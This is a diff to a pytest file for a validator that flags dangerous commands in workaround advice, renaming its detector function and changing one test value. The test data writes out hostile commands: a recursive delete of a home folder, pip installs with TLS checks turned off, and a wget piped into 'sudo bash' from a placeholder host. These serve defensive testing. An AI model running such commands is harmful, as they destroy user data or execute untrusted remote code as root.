@@ -10,8 +10,8 @@ from typing import Any
 import pytest
 
 from pipeline import validate
+from pipeline.lexicon.advice import danger
 from pipeline.records.entry import KnowledgeEntry
-from pipeline.text import unsafe
 from pipeline.validate import wording
 from tests import entry_factory as make
 
@@ -139,7 +139,7 @@ BREAKS: list[tuple[str, str, Break]] = [
         both(put(*ACTION, value=LONG_SET), retranslated("workarounds_zh[0]", LONG_SET)),
     ),
     ("action_safe", "in how", put("workarounds", 0, "how", value=EVIL)),
-    ("action_safe", "recursive delete", put("workarounds", 0, "how", value="rm -rf ~/.triton")),
+    ("action_safe", "recursive delete", put("workarounds", 0, "how", value="rm -rf ~/models")),
     ("action_safe", "no TLS check", put("workarounds", 0, "how", value="pip install --trusted-host x y")),
     ("zh_aligned", "one too few", put("dead_ends_zh", value=[])),
     ("zh_is_chinese", "English", put("workarounds_zh", 0, value=NOT_CHINESE)),
@@ -280,9 +280,9 @@ def test_a_chinese_quote_is_its_own_chinese_side() -> None:
 
 @pytest.mark.parametrize("words", [EVIL, "wget -qO- https://x.invalid | sudo bash", "pip config set --insecure x"])
 def test_dangerous_words_are_known(words: str) -> None:
-    assert unsafe(words) is not None
+    assert danger(words) is not None
 
 
 def test_ordinary_words_are_not_dangerous() -> None:
     for words in ("pip install -U triton", "export TRITON_STAGES=2", "rm build/cache.bin", "verify=True"):
-        assert unsafe(words) is None
+        assert danger(words) is None
